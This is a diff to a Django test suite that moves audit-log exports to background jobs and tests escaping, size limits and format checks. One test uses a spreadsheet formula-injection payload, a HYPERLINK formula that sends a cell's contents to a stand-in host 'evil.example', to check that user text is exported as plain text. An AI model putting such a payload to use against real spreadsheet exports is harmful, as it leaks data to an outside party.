@@ -13,6 +13,8 @@ from django.test import Client
 from django.utils import timezone
 from openpyxl import load_workbook
 
+from jixiao.web.jobs.models import Job
+from jixiao.web.jobs.services import job_run
 from jixiao.web.organisation.models import ApiToken, Member
 from jixiao.web.organisation.services import token_create
 from jixiao.web.security.audit import audit_maintenance, audit_record
@@ -176,7 +178,8 @@ def test_who_reads_the_audit_log(org, auditor, login, settings, person, separate
     settings.JIXIAO_SEPARATE_DUTIES = separate
     people = {**org, "auditor": auditor}
     assert login(people[person]).get("/audit/").status_code == status
-    assert login(people[person]).get("/audit/export.xlsx").status_code == status
+    started = login(people[person]).post("/jobs/start/audit_log/", {"format": "xlsx"})
+    assert started.status_code == (302 if status == 200 else 403)
 
 
 def test_the_auditor_sees_its_bureau_and_unknown_names_not_another_bureau(org, auditor, login):
@@ -205,29 +208,60 @@ def test_the_audit_page_filters(org, auditor, login):
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
 
 
-def test_exports_keep_user_text_as_text(org, auditor, login):
-    for name in (HOSTILE, "+1+1", "-2", "@SUM(A1)", "普通用户"):
+def test_exports_keep_user_text_as_text(org, auditor, login, exported):
+    for name in (HOSTILE, "+1+1", "-2", "@SUM(A1)", "普通用户", "控制\x01字符"):
         Client().post("/login/", {"username": name, "password": "wrong"})
     client = login(auditor)
-    workbook = load_workbook(io.BytesIO(client.get("/audit/export.xlsx?action=login_failed").content))
-    rows = list(workbook.active.iter_rows())
+    download = exported(client, "audit_log", {"action": "login_failed", "format": "xlsx"})
+    rows = list(load_workbook(io.BytesIO(download.content)).active.iter_rows())
     assert [c.value for c in rows[0]][:4] == ["时间", "登录名", "地址", "事件"]
     names = {row[1].value: row[1].data_type for row in rows[1:]}
-    assert names == {HOSTILE: "s", "+1+1": "s", "-2": "s", "@SUM(A1)": "s", "普通用户": "s"}
-    text = client.get("/audit/export.csv?action=login_failed").content.decode("utf-8-sig")
+    assert names == {HOSTILE: "s", "+1+1": "s", "-2": "s", "@SUM(A1)": "s", "普通用户": "s", "控制字符": "s"}
+    text = exported(client, "audit_log", {"action": "login_failed", "format": "csv"}).content.decode("utf-8-sig")
     written = {row[1] for row in list(csv.reader(io.StringIO(text)))[1:]}
-    assert written == {"'" + HOSTILE, "'+1+1", "'-2", "'@SUM(A1)", "普通用户"}
+    assert written == {"'" + HOSTILE, "'+1+1", "'-2", "'@SUM(A1)", "普通用户", "控制\x01字符"}
     assert len(events("download", user=auditor)) == 2  # the exports are downloads on the record too
 
 
-def test_an_export_too_large_is_refused_rather_than_cut(org, auditor, login, monkeypatch):
-    monkeypatch.setattr("jixiao.web.security.views._EXPORT_LIMIT", 1)
+def test_the_export_runs_in_the_background_over_the_filters_of_the_page(org, auditor, login):
+    for name in ("alpha", "beta", "alphabet"):
+        Client().post("/login/", {"username": name, "password": "wrong"})
+    client = login(auditor)
+    page = client.get("/audit/?action=login_failed&username=alpha&start=nonsense").content.decode()
+    assert 'action="/jobs/start/audit_log/"' in page
+    assert '<input type="hidden" name="action" value="login_failed">' in page and 'type="hidden" name="start"' not in page
+    started = client.post("/jobs/start/audit_log/", {"action": "login_failed", "username": "alpha", "format": "csv"})
+    job = Job.objects.get()
+    assert started.url == f"/jobs/{job.pk}/" and job.state == "queued" and not events("download")
+    waiting = client.get(started.url).content.decode()
+    assert "审计日志导出" in waiting and "登录失败 · 登录名含“alpha” · CSV" in waiting and "hx-trigger" in waiting
+    assert job_run(job.pk) == "succeeded"
+    job.refresh_from_db()
+    assert (job.done, job.total, job.message) == (2, 2, "已导出 2 条审计事件")
+    done = client.get(f"/jobs/{job.pk}/progress/").content.decode()
+    assert f"/jobs/{job.pk}/download/" in done and "/audit/?action=login_failed&amp;username=alpha" in done
+    rows = list(csv.reader(io.StringIO(client.get(f"/jobs/{job.pk}/download/").content.decode("utf-8-sig"))))
+    assert sorted(row[1] for row in rows[1:]) == ["alpha", "alphabet"]
+
+
+def test_an_export_too_large_fails_saying_why_rather_than_cut(org, auditor, login, monkeypatch):
+    monkeypatch.setattr("jixiao.web.security.jobs.EXPORT_LIMIT", 1)
     for name in ("a", "b"):
         Client().post("/login/", {"username": name, "password": "wrong"})
-    refused = login(auditor).get("/audit/export.csv?action=login_failed", follow=True)
-    assert refused.redirect_chain[-1][0] == "/audit/?action=login_failed"
-    assert "请缩小日期范围" in refused.content.decode()
-    assert login(auditor).get("/audit/export.csv?action=login_failed&username=a").status_code == 200
+    client = login(auditor)
+    client.post("/jobs/start/audit_log/", {"action": "login_failed", "format": "xlsx"})
+    job = Job.objects.get()
+    assert job_run(job.pk) == "failed"
+    job.refresh_from_db()
+    assert "符合条件的事件有 2 条，超过 1 条，请缩小日期范围" in job.message and job.result is None
+    assert client.get(f"/jobs/{job.pk}/download/").status_code == 404
+    narrowed = client.post("/jobs/start/audit_log/", {"action": "login_failed", "username": "a", "format": "csv"})
+    assert job_run(Job.objects.get(pk=narrowed.url.split("/")[2]).pk) == "succeeded"
+
+
+def test_an_export_in_an_unknown_format_is_refused(org, auditor, login):
+    refused = login(auditor).post("/jobs/start/audit_log/", {"format": "pdf"})
+    assert refused.status_code == 400 and "不支持的导出格式" in refused.content.decode() and not Job.objects.exists()
 
 
 def test_pruning_removes_only_events_past_retention_and_records_itself(org, settings):
